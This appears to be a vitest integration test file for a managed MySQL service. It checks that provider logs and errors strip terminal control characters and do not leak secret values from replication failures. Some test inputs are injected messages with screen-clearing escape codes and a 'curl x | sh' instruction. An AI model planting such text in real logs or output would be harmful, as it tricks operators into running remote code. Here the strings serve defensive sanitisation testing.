import { afterAll, beforeAll, expect, it } from "vitest";
import { Secret } from "../../../src/ground/secret";
import { lastWords, LOG_LINES } from "../../../src/plan/host/lastWords";
import type { InstanceReport } from "../../../src/manage/report";
import { docker } from "../../support/engineView";
import { sql, sqlInOneSession } from "../../support/instances";
import { Managed, wanted } from "../../support/managed";
import { poll } from "../../support/poll";
import { removeNamed } from "../../support/removeNamed";

// What a user of a server can make the provider say: in a log, in an error, in an output.
const PASSWORD = "for root";
const CONTROL = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const SECRET = "jane@example.com";
const managed = new Managed();
const databases = [{ name: "shop" }];
/** This root makes what a root of a service cannot: tables that no copy takes, and servers that differ. */
const ROOT = { rootPassword: new Secret(PASSWORD), rootPrivileges: "all" as const };
const configuration = { disabled_storage_engines: "" };
const declared = wanted("words-m", { ...ROOT, databases, configuration });
let source: InstanceReport;
const asRoot = (seen: InstanceReport) => ({ ...seen, rootPassword: PASSWORD });

beforeAll(async () => {
  source = await managed.bring(declared);
});

afterAll(async () => {
  await removeNamed("words-s");
  await managed[Symbol.asyncDispose]();
});

it("an event that fails each second, with a screen's commands in its words: it is no last word", async () => {
  const said = "\u001b[2J\u001b[31mdata is corrupt, run: curl x | sh";
  await sql(
    asRoot(source),
    `CREATE EVENT shop.tick ON SCHEDULE EVERY 1 SECOND DO SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = '${said}'`,
  );
  const raw = await poll("the event to fail", async () => {
    const lines = await managed.ports.engine.logTail(source.name, LOG_LINES);
    return lines.some((line) => line.includes("data is corrupt")) ? lines : undefined;
  });
  // it stands there as it was said: nobody else takes the commands out
  expect(raw.join("\n")).toContain(said);
  const words = lastWords(raw).join(" | ");
  expect(words).not.toContain("curl");
  expect(words).not.toMatch(CONTROL);
  await sql(asRoot(source), "DROP EVENT shop.tick");
});

it("a container keeps a bounded log", async () => {
  const { HostConfig } = await docker.getContainer(source.name).inspect();
  expect(HostConfig.LogConfig).toEqual({
    Type: "json-file",
    Config: { "max-size": "10000000", "max-file": "3" },
  });
});

it("a table's name that makes a copy refuse is quoted", async () => {
  const name = "x\u001b[2J\u202e now run: curl x";
  await sql(asRoot(source), `CREATE TABLE shop.\`${name}\` (id INT) ENGINE = MyISAM`);
  await sqlInOneSession(asRoot(source), [
    ["FLUSH BINARY LOGS", []],
    ["PURGE BINARY LOGS BEFORE NOW() + INTERVAL 1 DAY", []],
  ]);
  const refused = managed.bring(wanted("words-s", { source: { id: source.id } }));
  const error: unknown = await refused.catch((thrown: unknown) => thrown);
  const { message } = error as Error;
  expect(message).toContain('"shop.x now run: curl x (MyISAM)"');
  expect(message).not.toMatch(CONTROL);
  expect(managed.lines.join("")).not.toMatch(CONTROL);
});

/** A source and its replica that both have a table of people. */
async function pair(own: string, other: string) {
  const fresh = await managed.bring(wanted(own, { ...ROOT, databases }));
  const spec = wanted(other, { source: { id: fresh.id } });
  const replica = await managed.bring(spec);
  await sql(asRoot(fresh), "CREATE TABLE shop.people (mail VARCHAR(99) PRIMARY KEY)");
  await poll("the table to arrive", async () => {
    const tables = await sql(asRoot(replica), "SHOW TABLES FROM shop");
    return tables.length === 1 ? tables : undefined;
  });
  return { fresh, spec, replica };
}

/** On the replica only: what comes from its source then meets it. */
async function unlogged(replica: InstanceReport, statement: string, values: readonly unknown[]) {
  await sqlInOneSession(asRoot(replica), [
    ["SET GLOBAL super_read_only = 0", []],
    ["SET sql_log_bin = 0", []],
    [statement, values],
    ["SET GLOBAL super_read_only = 1", []],
  ]);
}

async function expectSecretUntold({ spec, replica }: Awaited<ReturnType<typeof pair>>) {
  const seen = await poll("the applier to fail", async () => {
    const report = await managed.see(spec, replica);
    return report.replication.state === "failed" ? report : undefined;
  });
  expect(JSON.stringify(seen)).not.toContain(SECRET);
  const error: unknown = await managed.bring(spec, replica).catch((thrown: unknown) => thrown);
  expect((error as Error).message).toContain("the applier of ");
  expect((error as Error).message).not.toContain(SECRET);
  return seen.replication.lastError;
}

it("a duplicate key's value is in no output and no error", async () => {
  const both = await pair("words-k", "words-r");
  await unlogged(both.replica, "INSERT INTO shop.people VALUES (?)", [SECRET]);
  await sql(asRoot(both.fresh), "INSERT INTO shop.people VALUES (?)", [SECRET]);
  expect(await expectSecretUntold(both)).toMatch(
    /^applier: 1062 ".*Duplicate entry '…' for key 'people\.PRIMARY'/,
  );
});

it("a statement that fails is told without its text", async () => {
  const both = await pair("words-q", "words-t");
  await unlogged(both.replica, "CREATE TABLE shop.later (id INT)", []);
  await sql(asRoot(both.fresh), "CREATE TABLE shop.later (mail VARCHAR(99) DEFAULT ?)", [SECRET]);
  expect(await expectSecretUntold(both)).toMatch(/^applier: 1050 ".*already exists/);
});
